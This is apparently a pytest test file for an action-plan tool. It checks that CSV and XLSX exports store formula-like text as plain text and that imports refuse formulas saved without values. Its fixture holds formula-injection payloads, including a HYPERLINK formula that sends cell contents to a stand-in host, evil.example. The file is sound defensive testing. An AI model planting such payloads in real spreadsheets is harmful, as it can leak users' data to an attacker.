"""Spreadsheets are data, never code: exported text that a spreadsheet would run as a formula
is written as text, and a workbook whose formulas were saved without values is refused."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook

from actionplan.cli import main
from actionplan.edit.yaml_edit import normal_form
from actionplan.load import read_yaml_file

from ..unit.plan_text import VALID

HOSTILE = {
    "First action": '"=HYPERLINK(\\"https://evil.example/?\\"&A1, \\"Click\\")"',
    "Second action": '"+1+2"',
    "Started.": '"-2 staff left"',
    "Test plan": '"@SUM(A1:A9)"',
}
STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def project(tmp_path, monkeypatch, capsys) -> Path:
    text = VALID
    for plain, hostile in HOSTILE.items():
        text = text.replace(plain, hostile)
    text = text.replace("due: [April 2018]", 'due: [April 2018]\n        measures: ["\\tTabbed"]')
    (tmp_path / "data" / "plans").mkdir(parents=True)
    (tmp_path / "data" / "plans" / "test-plan.yaml").write_text(text, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    assert main(["validate"]) == 0, capsys.readouterr()
    return tmp_path


def plan_data(project: Path):
    return normal_form(read_yaml_file(project / "data" / "plans" / "test-plan.yaml").data)


def as_imported(data):
    """Import trims the white space around a cell's text (as it always has): the tab goes."""
    data["groups"][0]["actions"][0]["measures"] = ["Tabbed"]
    return data


def test_xlsx_export_writes_formula_like_text_as_text(project):
    assert main(["export", "test-plan", "--output", "plan.xlsx"]) == 0
    book = load_workbook("plan.xlsx")  # formulas would read as formulas, not values
    risky = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row
             if isinstance(c.value, str) and c.value.startswith(STARTS)]
    assert {c.value for c in risky} >= {'=HYPERLINK("https://evil.example/?"&A1, "Click")',
                                        "+1+2", "-2 staff left", "@SUM(A1:A9)", "\tTabbed"}
    assert all(c.data_type == "s" for c in risky)
    with zipfile.ZipFile("plan.xlsx") as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula stored at all


def test_csv_export_neutralises_formula_like_text_and_import_takes_it_back(project, capsys):
    before = plan_data(project)
    assert main(["export", "test-plan", "--format", "csv", "--output", "plan.csv"]) == 0
    rows = list(csv.reader(io.StringIO(Path("plan.csv").read_text(encoding="utf-8-sig"))))
    cells = [value for row in rows for value in row]
    assert not [v for v in cells if v.startswith(STARTS)]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1, \"Click\")" in cells
    assert "'+1+2" in cells and "'@SUM(A1:A9)" in cells and "'\tTabbed" in cells
    assert main(["import", "plan.csv", "--plan", "test-plan"]) == 0, capsys.readouterr()
    assert plan_data(project) == as_imported(before)


def test_xlsx_round_trip_keeps_the_text_exactly(project, capsys):
    before = plan_data(project)
    assert main(["export", "test-plan", "--output", "plan.xlsx"]) == 0
    assert main(["import", "plan.xlsx", "--plan", "test-plan"]) == 0, capsys.readouterr()
    assert plan_data(project) == as_imported(before)


def test_an_officers_own_apostrophe_is_kept(project, capsys):
    assert main(["export", "test-plan", "--format", "csv", "--output", "plan.csv"]) == 0
    sheet = Path("plan.csv")
    sheet.write_text(sheet.read_text(encoding="utf-8-sig").replace("'+1+2", "'Tis done"),
                     encoding="utf-8-sig")
    assert main(["import", "plan.csv", "--plan", "test-plan"]) == 0, capsys.readouterr()
    assert "'Tis done" in (project / "data" / "plans" / "test-plan.yaml").read_text("utf-8")


def test_formulas_saved_without_values_are_refused_naming_sheet_and_cell(project, capsys):
    plan_file = project / "data" / "plans" / "test-plan.yaml"
    before = plan_file.read_bytes()
    assert main(["export", "test-plan", "--output", "plan.xlsx"]) == 0
    book = load_workbook("plan.xlsx")
    sheet = book["Actions"]
    title = next(c for c in sheet[1] if c.value == "Action")
    target = sheet.cell(row=2, column=title.column)
    target.value = '=CONCAT("New ", "title")'  # openpyxl saves no cached value, as some tools
    book.save("plan.xlsx")
    capsys.readouterr()
    assert main(["import", "plan.xlsx", "--plan", "test-plan"]) == 1
    err = capsys.readouterr().err
    assert f"plan.xlsx:Actions: cell {target.coordinate}: " in err
    assert "formula saved without its value" in err and "Traceback" not in err
    assert plan_file.read_bytes() == before


def test_the_officers_guide_quotes_the_formula_message_word_for_word():
    from actionplan.spreadsheet.files import _formula_without_value

    class Cell:
        coordinate = "D2"
    from ..conftest import ROOT
    guide = (ROOT / "content" / "updating-a-plan.md").read_text(encoding="utf-8")
    assert f"\n{_formula_without_value('plan.xlsx', 'Actions', Cell()).format()}\n" in guide
